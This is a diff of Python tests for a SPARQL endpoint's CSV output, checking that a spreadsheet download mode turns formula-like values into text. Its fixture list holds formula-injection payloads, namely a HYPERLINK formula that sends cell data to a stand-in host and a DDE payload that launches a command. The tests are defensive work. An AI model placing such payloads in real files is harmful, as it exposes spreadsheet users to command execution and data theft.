@@ -158,6 +158,55 @@ def test_select_as_csv_tsv_and_xml(client: FlaskClient) -> None:
     assert [e.text for e in root.iter(f"{SRX}literal")] == ["2020", "2021"]
 
 
+#: Values a spreadsheet would run as formulas, and values that only look like it.
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\tx",
+    "\r=1",
+]
+HARMLESS = ["-5", "+1", "2.5e-3", "plain", "a=b"]
+
+
+def values_query(values: list[str]) -> str:
+    literals = " ".join(str(ox.Literal(value)) for value in values)
+    return f"SELECT ?v WHERE {{ VALUES ?v {{ {literals} }} }}"
+
+
+def test_csv_answers_keep_every_value_as_it_is(client: FlaskClient) -> None:
+    """SPARQL 1.1 CSV is the data: a SPARQL client reads back the exact values, those
+    that look like formulas too."""
+    query = values_query(FORMULAS + HARMLESS)
+    answer = client.get("/sparql", query_string={"query": query, "format": "csv"})
+    assert answer.mimetype == "text/csv"
+    assert "Content-Disposition" not in answer.headers
+    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
+    assert rows == [["v"], *([value] for value in FORMULAS + HARMLESS)]
+
+
+def test_csv_for_a_spreadsheet_turns_formulas_into_text(client: FlaskClient) -> None:
+    query = values_query(FORMULAS + HARMLESS)
+    params = {"query": query, "format": "csv", "spreadsheet": "true"}
+    answer = client.get("/sparql", query_string=params)
+    assert answer.status_code == 200 and answer.mimetype == "text/csv"
+    assert answer.headers["Content-Disposition"] == 'attachment; filename="results.csv"'
+    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
+    assert rows == [["v"], *(["'" + value] for value in FORMULAS), *([v] for v in HARMLESS)]
+    faithful = client.get("/sparql", query_string={"query": query, "format": "csv"})
+    assert faithful.headers["ETag"] != answer.headers["ETag"], "two answers, two ETags"
+
+
+def test_the_results_page_downloads_csv_for_a_spreadsheet(client: FlaskClient) -> None:
+    query = values_query(FORMULAS)
+    page = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
+    link = html.unescape(re.findall(r'<a href="([^"]+)">CSV</a>', page.text)[0])
+    download = client.get(link)
+    assert download.headers["Content-Disposition"] == 'attachment; filename="results.csv"'
+    assert "\n'=HYPERLINK(" in download.text.replace('"', "")
+
+
 def test_ask(client: FlaskClient) -> None:
     response = client.get("/sparql", query_string={"query": "ASK { ?s ?p ?o }"})
     assert response.get_json() == {"head": {}, "boolean": True}
